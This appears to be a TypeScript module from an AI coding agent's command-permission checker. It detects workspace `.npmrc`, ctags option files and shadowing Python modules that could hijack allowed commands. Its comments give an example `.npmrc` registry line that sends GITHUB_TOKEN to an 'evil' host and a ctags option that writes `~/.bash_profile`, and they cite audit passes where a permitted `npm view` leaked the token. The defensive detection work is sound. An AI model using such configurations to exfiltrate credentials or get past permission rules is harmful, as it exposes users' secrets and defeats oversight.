import { commandBase, type SimpleCommand } from './commands';
import { readCappedSync } from '../../fs/read';
import { isFolderSync, isLinkSync } from '../../fs/stat';
import { existingLocation, kernelJoin } from '../../fs/paths';

// npm, npx, pnpm and yarn read `.npmrc` from the folder they run in and every folder above it. A
// clone's `.npmrc` sets where they connect and what they send (`registry=https://evil/${GITHUB_TOKEN}/`
// filled in from your environment, then printed and sent), which programs they run
// (`script-shell`, `node-options`, `git`) and where they write (`logs-dir`, `cache`, `prefix`):
// `npm view x` under `Bash(npm view:*)` sent the token (pass 29 F9). So a rule naming one of them
// covers a `.npmrc` of the workspace's only when each of its settings is known to shape no more
// than how packages are saved and how output looks, and no value reads the environment.

const RUNNERS: ReadonlySet<string> = new Set(['npm', 'npx', 'pnpm', 'pnpx', 'yarn', 'yarnpkg', 'corepack']);

/** `.npmrc` keys that only shape how dependencies are saved or resolved and how output looks. */
const HARMLESS: ReadonlySet<string> = new Set([
  'save-exact', 'save-prefix', 'save', 'engine-strict', 'fund', 'audit', 'package-lock', 'package-lock-only', 'legacy-peer-deps',
  'auto-install-peers', 'strict-peer-dependencies', 'shamefully-hoist', 'loglevel', 'progress', 'lockfile-version', 'optional',
  'ignore-scripts', 'prefer-offline', 'prefer-online', 'update-notifier', 'color', 'unicode', 'link-workspace-packages',
  'prefer-workspace-packages', 'node-linker', 'public-hoist-pattern', 'hoist-pattern', 'hoist', 'git-tag-version', 'tag-version-prefix',
  'sign-git-commit', 'sign-git-tag', 'workspaces-update', 'include-workspace-root', 'resolution-mode', 'dedupe-peer-dependents',
  'install-strategy', 'install-links', 'omit', 'include', 'save-dev', 'save-optional', 'save-peer', 'save-prod', 'save-bundle',
  'recursive-install', 'frozen-lockfile', 'prefer-frozen-lockfile',
]);

/** Folders searched, the workspace's own up to the root. */
const MAX_LEVELS = 64;

/** Why a package runner in `c`, run in `folder`, may be steered by a `.npmrc` there or above; undefined when none may. */
export function npmrcFinding(c: SimpleCommand, folder: string, home: string): string | undefined {
  const name = c.words[0] === undefined ? '' : commandBase(c.words[0]);
  if (!RUNNERS.has(name)) return undefined;
  const own = existingLocation(kernelJoin(home, '.npmrc'));
  let dir = folder;
  for (let level = 0; level < MAX_LEVELS; level++) {
    const file = kernelJoin(dir, '.npmrc');
    // Your own ~/.npmrc is yours.
    if (existingLocation(file) !== own) {
      const read = readCappedSync(file, { maxBytes: 64 * 1024 });
      if (read.ok) {
        if (read.capped) return `${name} reads ${file}, too large to read through`;
        const why = npmrcDanger(read.bytes.toString('utf8'));
        if (why) return `${name} reads ${file}, whose ${why}`;
      } else if (read.reason !== 'missing' && read.reason !== 'folder') return `${name} reads ${file}, which cannot be read through`;
    }
    const up = kernelJoin(dir, '..');
    if (existingLocation(up) === existingLocation(dir)) return undefined;
    dir = up;
  }
  return undefined;
}

/** Why a `.npmrc` text may steer npm beyond saving and output; undefined when it surely does not. */
export function npmrcDanger(text: string): string | undefined {
  for (const raw of text.split(/\r?\n/)) {
    const line = raw.trim();
    if (line === '' || line.startsWith('#') || line.startsWith(';')) continue;
    const eq = line.indexOf('=');
    const key = (eq < 0 ? line : line.slice(0, eq)).trim().replace(/\[\]$/, '');
    const value = eq < 0 ? '' : line.slice(eq + 1);
    if (/\$\{/.test(line)) return `setting ${key} reads your environment (\${…})`;
    if (!HARMLESS.has(key)) return `setting ${key} may choose where npm connects, what it runs or where it writes`;
    if (/[`$]/.test(value)) return `setting ${key} holds a value that is expanded`;
  }
  return undefined;
}

/** Whether something (a file, folder or link) is at `path`. */
const present = (path: string) => isLinkSync(path) || isFolderSync(path) || readCappedSync(path, { maxBytes: 1 }).ok;

/**
 * ctags reads option files from the folder it runs in (`.ctags.d/*.ctags`, `ctags.d/`, `.ctags`):
 * a clone's options name any file to write (`-f ~/.bash_profile`) and any pattern to print (pass 32 C1).
 */
export function ctagsConfigFinding(c: SimpleCommand, folder: string): string | undefined {
  const name = c.words[0] === undefined ? '' : commandBase(c.words[0]);
  if (!['ctags', 'etags', 'ctags-universal', 'exuberant-ctags', 'uctags'].includes(name)) return undefined;
  const found = ['.ctags.d', 'ctags.d', '.ctags', 'ctags.cnf', '.ctags.cnf'].map((f) => kernelJoin(folder, f)).find(present);
  return found === undefined ? undefined : `${name} reads its options from ${found}, which may name any file it writes or reads`;
}

/**
 * `python -m json.tool` imports the module from the folder it runs in first (sys.path[0]): a clone's
 * `json/` or `http/` runs in place of the standard one (pass 32 M1). Also for `py_compile`,
 * `compileall`, `http.server` and any `-m` a rule names.
 */
export function pythonModuleFinding(c: SimpleCommand, folder: string): string | undefined {
  const name = c.words[0] === undefined ? '' : commandBase(c.words[0]);
  if (!/^(python[\d.]*|py|pypy[\d.]*)$/.test(name)) return undefined;
  const at = c.words.findIndex((w, i) => i > 0 && (w === '-m' || (w?.startsWith('-m') ?? false)));
  if (at < 0) return undefined;
  const module = c.words[at] === '-m' ? c.words[at + 1] : c.words[at]!.slice(2);
  if (module === undefined) return `${name} runs a module named when it runs`;
  const top = module.split('.')[0]!;
  const found = [`${top}.py`, top, `${top}.pyc`, `${top}.so`].map((f) => kernelJoin(folder, f)).find(present);
  return found === undefined ? undefined : `${name} -m ${module} imports ${found} from the folder it runs in, in place of the installed module`;
}